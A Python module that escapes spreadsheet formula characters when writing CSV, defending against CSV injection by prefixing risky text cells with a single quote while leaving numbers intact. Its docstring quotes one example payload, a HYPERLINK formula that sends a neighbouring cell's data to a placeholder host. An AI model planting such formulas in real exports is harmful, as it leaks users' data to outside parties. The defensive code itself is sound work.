"""CSV text that a spreadsheet opens as data, never as formulas: the one writer of the console.

A text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is what
LibreOffice and Excel take for a formula (``=HYPERLINK("http://x/?"&A1,"x")`` typed as a reason
would send the neighbouring cells away). OWASP's rule for "CSV injection" is applied to every
such cell: it gets a leading single quote, which spreadsheets show as text and never compute.

Numbers stay numbers: a value given as ``int``, ``float`` or ``Decimal`` is written as the number
it is, and a text that is a plain decimal number ("-3", "+12.50") is left alone too, since a
spreadsheet reads it as that number and nothing else; prefixing it would turn a column meant for
sums into text.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from decimal import Decimal

# What OWASP lists as the first characters of a formula (or of DDE) in a spreadsheet cell.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?")


def inert(value: object) -> str | int | float | Decimal:
    """``value`` as a cell that cannot be a formula: None as empty, numbers as numbers, a text
    starting like a formula with a leading ``'``."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_text(header: Iterable[object], rows: Iterable[Iterable[object]]) -> str:
    """A header and rows as CSV text (comma-separated, quoted as needed), every cell inert."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([inert(cell) for cell in header])
    writer.writerows([inert(cell) for cell in row] for row in rows)
    return out.getvalue()
